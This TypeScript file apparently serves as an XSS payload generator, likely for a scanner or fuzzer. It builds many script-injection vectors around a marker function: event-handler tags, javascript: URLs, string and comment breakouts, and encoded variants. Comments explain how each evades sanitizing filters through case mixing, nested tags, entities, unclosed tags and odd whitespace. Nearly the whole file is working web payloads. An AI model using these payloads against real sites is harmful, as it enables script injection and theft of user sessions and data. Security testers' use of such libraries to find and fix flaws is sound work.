// Pieces of markup and of script that call a marker, written in many ways: what one filter takes away, another spelling keeps.

export type Make = (token: string) => string;

const entities = (text: string): string => [...text].map((one) => `&#${one.codePointAt(0)};`).join("");

/** New elements that run the marker, the plainest first. None needs more than loading, but the last two. */
export const elementVectors: readonly Make[] = [
  (t) => `<svg/onload=${t}()>`,
  (t) => `<script>${t}()</script>`,
  (t) => `<img src=x onerror=${t}()>`,
  (t) => `<ScRiPt>${t}()</sCrIpT>`,
  // No parentheses, no blanks.
  (t) => `<svg/onload=${t}\`\`>`,
  // The code as entities: survives a change of case and filters for its characters.
  (t) => `<svg/onload=${entities(`${t}()`)}>`,
  // What a filter takes out once leaves the word behind.
  (t) => `<scr<script>ipt>${t}()</scr</script>ipt>`,
  (t) => `<scrscriptipt>${t}()</scrscriptipt>`,
  // Never closed: escapes patterns that want the closing bracket.
  (t) => `<svg onload=${t}() `,
  // White space where patterns expect none or one blank.
  (t) => `<svg\nonload\n=\n${t}()>`,
  (t) => `<details open ontoggle=${t}()>`,
  (t) => `<iframe src=javascript:${t}()>`,
  (t) => `<awx tabindex=1 autofocus onfocus=${t}()>`,
  (t) => `<video><source onerror=${t}()></video>`,
  (t) => `<a href=javascript:${t}()>x</a>`,
  (t) => `<a onmouseover=${t}()>x</a>`,
];

/** In a frameset only frames are built. */
export const frameVectors: readonly Make[] = [(t) => `<frame src=javascript:${t}()>`, (t) => `<frame onload=${t}()>`, (t) => `</frameset><noframes></noframes><svg/onload=${t}()>`];

/** XML needs the namespace told, and everything closed. */
export const xmlVectors: readonly Make[] = [(t) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${t}()</x:script>`, (t) => `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${t}()</x:script><![CDATA[`];

/** Attributes that run the marker in the tag where they stand; hidden inputs cannot be focused. */
export const attributeVectors = (quote: string, hidden: boolean): readonly Make[] => {
  const handler = hidden ? "oncontentvisibilityautostatechange" : "onfocus";
  const helps = hidden ? "style=content-visibility:auto" : "autofocus tabindex=1";
  return [
    (t) => `${quote} ${handler}=${t}() ${helps} x=${quote}`,
    (t) => `${quote}\t${handler}=${quote}${t}()${quote}\t${helps.replace(" ", "\t")}\tx=${quote}`,
    (t) => `${quote}/${handler}=${quote}${t}()${quote}/${helps.replace(" ", "/")}/x=${quote}`,
    (t) => `${quote} ${handler}=${entities(`${t}()`)} ${helps} x=${quote}`,
    (t) => `${quote} onmouseover=${t}() x=${quote}`,
  ];
};

/** URLs that are scripts. */
export const urlVectors: readonly Make[] = [
  (t) => `javascript:${t}()`,
  (t) => `JaVaScRiPt:${t}()`,
  (t) => `java\tscript:${t}()`,
  (t) => `\u0001javascript:${t}()`,
  // For what must look like a URL with a host, or end or begin like one.
  (t) => `javascript://x.invalid/%0a${t}()`,
  (t) => `javascript:${t}()//http://x.invalid/`,
  (t) => `&#106;avascript&colon;${t}()`,
];

export const scriptSourceVectors: readonly Make[] = [(t) => `data:text/javascript,${t}()`, (t) => `//${t}.invalid/x.js`, (t) => `https://${t}.invalid/x.js`];

/** Out of a string of these quotes, and back into one, so that the whole still parses. */
export const stringVectors = (quote: string): readonly Make[] => [
  (t) => `${quote}-${t}()-${quote}`,
  (t) => `${quote};${t}();//`,
  (t) => `${quote}+${t}\`\`+${quote}`,
  (t) => `${quote});${t}();//`,
  (t) => `${quote}});${t}();//`,
  // Where quotes are escaped and backslashes are not.
  (t) => `\\${quote}-${t}()//`,
  (t) => `\\${quote});${t}()//`,
];

export const templateVectors: readonly Make[] = [(t) => `\${${t}()}`, (t) => `\`-${t}()-\``];
export const regexVectors: readonly Make[] = [(t) => `/-${t}()-/`, (t) => `/;${t}();//`];
export const lineCommentVectors: readonly Make[] = [(t) => `\n${t}()//`, (t) => `\r${t}()//`, (t) => `\u2028${t}()//`];
export const blockCommentVectors: readonly Make[] = [(t) => `*/${t}()/*`, (t) => `*/;${t}();/*`];
export const codeVectors: readonly Make[] = [(t) => `${t}()`, (t) => `0;${t}();//`, (t) => `x=${t}(),y`, (t) => `0);${t}();//`, (t) => `0}${t}();{`, (t) => `x:${t}(),y`, (t) => `0});${t}();//`, (t) => `${t}\`\``];

/** The same text as an application would have to decode it once more. */
export const disguises: Readonly<Record<"percent" | "entity" | "escape" | "wide", (text: string) => string>> = {
  percent: (text) => encodeURIComponent(text).replaceAll("'", "%27").replaceAll("(", "%28").replaceAll(")", "%29"),
  entity: (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;").replaceAll("'", "&#39;"),
  escape: (text) => text.replaceAll(/[<>"']/g, (one) => `\\x${one.charCodeAt(0).toString(16)}`),
  wide: (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e").replaceAll('"', "\uff02").replaceAll("'", "\uff07"),
};
